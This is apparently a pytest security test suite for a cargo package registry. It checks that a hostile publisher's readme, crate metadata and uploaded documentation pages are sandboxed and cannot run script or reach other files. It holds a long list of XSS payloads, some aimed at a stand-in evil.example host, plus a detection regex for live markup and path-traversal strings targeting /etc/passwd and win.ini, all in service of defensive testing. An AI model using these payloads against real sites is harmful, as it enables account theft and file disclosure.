"""What a publisher writes for people to read can do nothing to them: readmes, documentation, descriptions."""

import re
from collections.abc import AsyncIterator

import pytest

from tests.asgi import Reply
from tests.attacks.cargo.ground import API, Ground, a_ground
from tests.ecosystems.cargo.pages import PAGES, tarball
from tests.ecosystems.cargo.publications import publication

pytestmark = pytest.mark.anyio

EVIL = "<script>steal()</script><img src=x onerror=steal()>"
README = f"""# Title {EVIL}

{EVIL}

[a](javascript:steal()) [b](JaVaScRiPt&#58;steal()) [c](data:text/html,<script>steal()</script>) [d](vbscript:steal())
<a href="&#x6A;avascript:steal()">e</a> <a href="java\nscript:steal()">f</a> <a href=" javascript:steal()">g</a>
![h](javascript:steal()) ![i](x" onerror="steal()) <svg onload=steal()><style>*{{background:url(//evil)}}</style></svg>
<iframe src="https://evil.example"></iframe><object data="x"></object><embed src=x><base href="//evil.example/">
<form action="https://evil.example"><input name=password autofocus onfocus=steal()><button formaction="x">k</button>
</form>
<meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href="//evil.example">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;"></table></mtext>
</math>
<noscript><p title="</noscript><img src=x onerror=steal()>"></noscript> <div style="position:fixed;inset:0">l</div>
<details open ontoggle=steal()>m</details> <video><source onerror=steal()></video> <p id="user" name="user">n</p>

```html" onmouseover="steal()
<script>steal()</script>
```

<!-- <script>steal()</script> --><![CDATA[<script>steal()</script>]]><?php steal() ?>
"""
LIVE = re.compile(
    r"<\s*(script|iframe|object|embed|base|form|button|meta|link|style|svg|math|noscript|video|source)\b"
    r"|<[^>]*\son\w+\s*=|(href|src|action|formaction|data)\s*=\s*[\"']?\s*(javascript|vbscript|data:text)"
    r"|<[^>]*\sstyle\s*=|<\s*input(?![^>]*type=\"checkbox\"[^>]*>)",
    re.IGNORECASE,
)
"""Markup that could do something."""


@pytest.fixture(scope="module")
async def ground(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Ground]:
    """Run a server on which eve has published a crate as evil as may be."""
    async with a_ground(tmp_path_factory.mktemp("pages")) as ground:
        eve = await ground.user("eve")
        text = f"""readme = "README.md"
repository = "https://code.example/<script>steal()</script>"
authors = ["{EVIL}"]
"""
        body = publication("evil", "1.0.0", text, {"README.md": README.encode()})
        made = await ground.send("PUT", f"{API}/crates/new", body, eve)
        if made.status != 200:  # refused for its address alone
            text = text.replace("/<script>steal()</script>", "/x")
            made = await ground.send(
                "PUT", f"{API}/crates/new", publication("evil", "1.0.0", text, {"README.md": README.encode()}), eve
            )
        assert made.status == 200, made.text
        pages = {
            **PAGES,
            "evil.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="steal()"/>',
            "evil.xhtml": b"<html xmlns='http://www.w3.org/1999/xhtml'><script>steal()</script></html>",
            "evil.xml": b"<?xml-stylesheet href='evil.xsl'?><a/>",
            "evil": b"<html><script>steal()</script>",
            "a b/\u00e9'\"<.html": b"odd",
        }
        uploaded = await ground.send("PUT", f"{API}/crates/evil/1.0.0/docs", tarball(pages), eve)
        assert uploaded.status == 200, uploaded.text
        yield ground


def sandboxed(reply: Reply) -> bool:
    """Tell whether a browser gives a page an origin of its own."""
    rules = reply.headers.get("content-security-policy", "").split(";")
    sandbox = next((rule.split() for rule in rules if rule.split()[:1] == ["sandbox"]), [])
    return bool(sandbox) and not {"allow-same-origin", "allow-top-navigation", "allow-forms"} & set(sandbox)


async def test_a_readme_does_nothing(ground: Ground) -> None:
    reply = await ground.send("GET", f"{API}/crates/evil/1.0.0/readme")
    assert reply.status == 200
    assert reply.headers["content-type"].startswith("text/html")
    assert sandboxed(reply)
    assert "default-src 'none'" in reply.headers["content-security-policy"]
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert "Title" in reply.text
    assert LIVE.search(reply.text.split("</head>")[-1]) is None, LIVE.search(reply.text)
    assert "evil.example" not in re.sub(r"<[^>]*rel=\"[^\"]*nofollow[^>]*>", "", reply.text)


async def test_pages_about_a_crate_show_its_words_as_words(ground: Ground) -> None:
    for path in ("/ui/cargo/evil", "/ui/cargo/evil/v/1.0.0", "/ui/search?q=evil"):
        reply = await ground.send("GET", path)
        assert reply.status == 200, path
        assert "steal()</script>" not in reply.text.replace("&lt;", "[").replace("<code>", "")
        assert "onerror=steal()>" not in reply.text
        policy = reply.headers["content-security-policy"]
        assert "script-src" in policy or "default-src" in policy
        assert "unsafe-inline" not in policy.partition("script-src")[2].partition(";")[0]


@pytest.mark.parametrize(
    "page", ["help.html", "evil.svg", "evil.xhtml", "evil.xml", "evil", "crates.js", "green_pear/index.html"]
)
async def test_pages_of_a_publisher_are_of_an_origin_of_their_own(ground: Ground, page: str) -> None:
    for headers in ({}, {"range": "bytes=0-3"}, {"accept": "*/*"}):
        reply = await ground.send("GET", f"/cargo/docs/evil/1.0.0/{page}", headers=headers)
        assert reply.status in (200, 206), reply.text
        assert sandboxed(reply)
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert "set-cookie" not in reply.headers
        assert "access-control-allow-credentials" not in reply.headers
        # No other site reads them by the browser of somebody who can reach this server.
        assert page.endswith(".js") or "access-control-allow-origin" not in reply.headers
        kind = reply.headers["content-type"]
        if not page.endswith((".html", ".svg", ".js")):
            assert kind.startswith(("application/octet-stream", "text/plain")), kind
        tag = {"if-none-match": reply.headers["etag"]}
        assert (await ground.send("GET", f"/cargo/docs/evil/1.0.0/{page}", headers=tag)).status == 304


@pytest.mark.parametrize(
    "path",
    [
        "..%2f..%2f..%2fetc%2fpasswd",
        "../../../api/v1/crates/evil",
        "%2e%2e/%2e%2e/1.0.0/help.html",
        "help.html%00.png",
        "/help.html",
        "./help.html",
        "HELP.html",
        "help.html%5c",
        "..%5c..%5cwin.ini",
        "a" * 10_000,
        "/".join("a" * 200),
    ],
)
async def test_no_path_leads_out_of_the_pages(ground: Ground, path: str) -> None:
    for version in ("1.0.0", "latest"):
        reply = await ground.send("GET", f"/cargo/docs/evil/{version}/{path}")
        assert reply.status in (302, 400, 404), reply.text[:200]
        place = reply.headers.get("location", "http://packhouse.example/cargo/docs/evil/1.0.0/")
        assert place.startswith("http://packhouse.example/cargo/docs/evil/1.0.0/")
        assert not set("\r\n\0 ") & set(place)
        if reply.status == 302 and version == "1.0.0":
            pytest.fail("a page that is not there is nowhere else")


async def test_nobody_else_writes_pages(ground: Ground) -> None:
    bob = await ground.user("bob")
    before = (await ground.send("GET", "/cargo/docs/evil/1.0.0/help.html")).body
    for token in ("", bob):
        for method in ("PUT", "DELETE"):
            reply = await ground.send(method, f"{API}/crates/evil/1.0.0/docs", tarball(PAGES), token)
            assert reply.status in (401, 403)
    assert (await ground.send("GET", "/cargo/docs/evil/1.0.0/help.html")).body == before


async def test_pages_are_no_file_of_the_crate(ground: Ground) -> None:
    for path in (
        "/cargo/crates/evil/evil-1.0.0.docs",
        "/cargo/crates/evil/evil-1.0.0.docs.crate",
        f"{API}/crates/evil/1.0.0.docs/download",
        f"{API}/crates/evil/docs/download",
    ):
        assert (await ground.send("GET", path)).status == 404
